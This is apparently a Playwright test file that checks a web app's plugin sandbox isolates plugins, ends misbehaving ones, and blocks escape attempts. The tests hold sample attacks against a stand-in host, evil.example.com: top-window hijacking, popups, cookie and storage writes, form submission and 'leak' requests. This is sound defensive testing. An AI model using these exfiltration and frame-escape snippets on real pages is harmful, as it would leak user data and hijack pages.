// Sandboxed plugins in our own pages (docs/SANDBOX.md): what works, and what becomes of those that misbehave. The plugins are
// `lab-box…` of end2end/lab/src/boxed.rs.
import { readFile } from "node:fs/promises";
import type { BrowserContext, Page } from "@playwright/test";
import { collectReports, sendReports } from "../support/reports.ts";
import { axe, expect, openLab, test } from "../support/test.ts";

const surface = (page: Page, plugin: string) => page.locator(`[data-plugin="${plugin}"]`);

test("a sandboxed plugin is in the page, gets what the page passes, and answers @js", async ({ lab, page }) => {
  const reports = await collectReports(page);
  await openLab(page, lab, "lab-box");
  const box = surface(page, "lab-box");
  await expect(box.getByText("Range 30d")).toBeVisible();
  const button = box.getByRole("button", { name: "Press" });
  await button.click();
  await expect(box.getByRole("button", { name: "Pressed 1" })).toBeVisible();
  await box.getByLabel("Name").fill("Ada");
  await expect(box.getByText("Hello Ada")).toBeVisible();
  expect(await axe(page)).toEqual([]);
  await sendReports(page);
  await expect.poll(() => reports.map(({ plugin, outcome }) => [plugin, outcome])).toEqual([["lab-box", "ready"]]);
});

test("THREATS 15 and 16: a plugin's stylesheet styles the plugin and nothing else @js", async ({ lab, page }) => {
  await openLab(page, lab, "lab-box");
  const card = surface(page, "lab-box").locator(".card").filter({ hasText: "Range" });
  await expect(card).toHaveCSS("color", "rgb(1, 2, 3)");
  await expect(page.locator("body")).toBeVisible();
});

for (const [plugin, shown, why] of [
  ["lab-box-loop", "Soon it hangs", "It stopped answering, so it was ended."],
  ["lab-box-flood", "Soon it floods", "It asked more of the page than a plugin may, so it was ended."],
  ["lab-box-huge", "Soon it is huge", "It asked more of the page than a plugin may, so it was ended."],
] as const) {
  test(`THREATS 26: ${plugin} is ended, and what is beside it goes on @js`, async ({ lab, page }) => {
    const reports = await collectReports(page);
    await openLab(page, lab, plugin, "lab-box");
    const box = surface(page, plugin);
    await expect(box.getByRole("group", { name: `${plugin} was stopped` })).toBeVisible();
    await box.getByText("Why?").click();
    await expect(box).toContainText(why);
    await expect(box.getByText(shown)).toHaveCount(0);
    await expect(box.locator("iframe")).toHaveCount(0);
    // What is beside it is not harmed.
    await surface(page, "lab-box").getByRole("button", { name: "Press" }).click();
    await expect(surface(page, "lab-box").getByRole("button", { name: "Pressed 1" })).toBeVisible();
    await sendReports(page);
    const failures = () => reports.filter((report) => report.plugin === plugin && report.outcome !== "ready");
    await expect.poll(() => failures().map(({ outcome, stop }) => [outcome, stop])).toEqual([["stopped", plugin === "lab-box-loop" ? "unresponsive" : "limit"]]);
  });
}

test("a plugin that cannot render says so, and Retry tries again @js", async ({ lab, page }) => {
  await openLab(page, lab, "lab-box-throws");
  const box = surface(page, "lab-box-throws");
  const card = box.getByRole("group", { name: "lab-box-throws could not be shown" });
  await expect(card).toBeVisible();
  await box.getByRole("button", { name: "Try again" }).click();
  await expect(card).toBeVisible();
});

test("THREATS 19, b and d: the frame may do nothing but run scripts, and only at its own address @js", async ({ lab, page }) => {
  await openLab(page, lab, "lab-box");
  await expect(surface(page, "lab-box").getByText("Range 30d")).toBeVisible();
  const frame = page.locator('iframe[src*="/sandbox/"]');
  await expect(frame).toHaveCount(1);
  await expect(frame).toHaveAttribute("sandbox", "allow-scripts");
  await expect(frame).toHaveAttribute("referrerpolicy", "no-referrer");
  await expect(frame).toBeHidden();
});

const WAYS = ["fetch", "request", "socket", "events", "script", "module", "peers", "database", "cache", "files"];

/** What arrives at a stranger's server, which answers whatever is asked. */
async function stranger(context: BrowserContext): Promise<string[]> {
  const arrived: string[] = [];
  await context.route("https://evil.example.com/**", (route) => {
    const { pathname } = new URL(route.request().url());
    arrived.push(pathname);
    const contentType = pathname.endsWith(".js") ? "text/javascript" : pathname.endsWith("events") ? "text/event-stream" : "text/plain";
    return route.fulfill({ contentType, headers: { "access-control-allow-origin": "*" }, body: contentType === "text/event-stream" ? ": \n\n" : "" });
  });
  return arrived;
}

test("THREATS 20, 22 and 25: from a plugin's worker nothing leads out, to the network or into storage @js", async ({ lab, page, allowed }) => {
  // What the policy blocks is said in the console of the page.
  allowed.push(/Content Security Policy|ERR_BLOCKED_BY_CSP/);
  const arrived = await stranger(page.context());
  await openLab(page, lab, "lab-box-escape");
  const box = surface(page, "lab-box-escape");
  await expect(box.getByText("All tried")).toBeVisible();
  await expect(box.getByRole("listitem")).toHaveText(WAYS.map((way) => `${way}: closed`));
  expect(arrived).toEqual([]);
});

test("control of THREATS 20, 22 and 25: in a worker without a sandbox the same ways are open @js", async ({ page, allowed }) => {
  allowed.push(/./);
  const arrived = await stranger(page.context());
  await page.route("https://control.example.com/", (route) => route.fulfill({ contentType: "text/html", body: "<!doctype html><title>Control</title>" }));
  await page.goto("https://control.example.com/");
  const script = await readFile(new URL("../lab/assets/box/escape.js", import.meta.url), "utf8");
  const came = await page.evaluate(async (script) => {
    const shim = `const plugin = {}; const insert = (node) => node, element = (id, name, attributes, children) => children, text = (id, said) => said;
      const said = []; const mutate = async (node) => void (node?.[0] && said.push(node[0])); addEventListener("message", async () => { await plugin.render(); postMessage(said); });`;
    const worker = new Worker(URL.createObjectURL(new Blob([shim + script])));
    const answer = new Promise<string[]>((resolve) => worker.addEventListener("message", ({ data }) => resolve(data as string[])));
    worker.postMessage("go");
    return answer;
  }, script);
  // No worker has peers; a document has, which is why plugins run in none. The socket of a worker finds nobody here who could answer it.
  const closed = ["peers", "socket"];
  expect(came).toEqual([...WAYS.map((way) => `${way}: ${closed.includes(way) ? "closed" : "open"}`), "All tried"]);
  expect(await page.evaluate(() => typeof RTCPeerConnection)).toBe("function");
  expect(arrived.sort()).toEqual(["/leak-events", "/leak-fetch", "/leak-module.js", "/leak-request", "/leak-script.js"]);
});

/** What a document could do to its page and its reader; each answers whether it could. */
const inDocument = {
  "top navigation": () => {
    top!.location.href = "https://evil.example.com/top";
    return true;
  },
  popup: () => window.open("https://evil.example.com/popup") !== null,
  cookies: () => {
    document.cookie = "leak=1";
    return document.cookie.includes("leak");
  },
  storage: () => {
    localStorage.setItem("leak", "1");
    return true;
  },
  database: () => indexedDB.open("leak") !== null,
  form: () => {
    const target = Object.assign(document.createElement("iframe"), { name: "target" });
    const form = Object.assign(document.createElement("form"), { target: "target", action: "https://evil.example.com/form" });
    document.body.append(target, form);
    form.submit();
    // Whether it was sent, its receiver knows.
    return self.origin !== "null";
  },
  "the page": () => parent.document.title.length > 0,
};

for (const sandboxed of [true, false]) {
  test(`${sandboxed ? "" : "control of "}THREATS 25: in the frame's document ${sandboxed ? "nothing" : "everything"} is open @js`, async ({ lab, page, allowed }) => {
    // What a sandbox forbids is said in the console; the control tries it all.
    allowed.push(sandboxed ? /sandboxed|Unsafe attempt|Content Security Policy/ : /./);
    const arrived = await stranger(page.context());
    await openLab(page, lab, "lab-box");
    await expect(surface(page, "lab-box").getByText("Range 30d")).toBeVisible();
    if (!sandboxed) {
      // The same page with a frame that has no sandbox.
      await page.route(`${lab.url}/control`, (route) => route.fulfill({ contentType: "text/html", body: "<!doctype html><title>Control</title>" }));
      await page.route(`${lab.url}/around`, (route) => route.fulfill({ contentType: "text/html", body: '<!doctype html><title>Around</title><iframe src="/control"></iframe>' }));
      await page.goto(`${lab.url}/around`);
    }
    const frame = page.frames().find((frame) => frame.url().includes(sandboxed ? "/sandbox/" : "/control"))!;
    // The navigation is tried last: without a sandbox it takes the page away.
    for (const [name, attempt] of Object.entries(inDocument).filter(([name]) => name !== "top navigation")) {
      const could = await frame.evaluate(`(() => { try { return (${attempt.toString()})(); } catch { return false; } })()`);
      expect(could, name).toBe(!sandboxed);
    }
    await frame.evaluate(`try { (${inDocument["top navigation"].toString()})() } catch {}`).catch(() => undefined);
    if (sandboxed) {
      await expect(surface(page, "lab-box").getByText("Range 30d")).toBeVisible();
      expect(arrived).toEqual([]);
    } else {
      await page.waitForURL("https://evil.example.com/top");
      expect(arrived.sort()).toEqual(["/form", "/popup", "/top"]);
    }
  });
}

test("THREATS 29: with a plugin its own workers end @js", async ({ lab, page }) => {
  let ticks = 0;
  await page.context().route("https://ticks.example.com/**", (route) => {
    ticks += 1;
    return route.fulfill({ body: "" });
  });
  await openLab(page, lab, "lab-box-nested");
  const box = surface(page, "lab-box-nested");
  // The control: as long as the plugin runs, its child does.
  await expect.poll(() => ticks).toBeGreaterThan(5);
  await expect(box.getByRole("group", { name: "lab-box-nested was stopped" })).toBeVisible();
  // Its parent hangs, so the browser ends the child by force, after two seconds.
  await expect
    .poll(async () => {
      const before = ticks;
      await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
      return ticks - before;
    })
    .toBe(0);
});
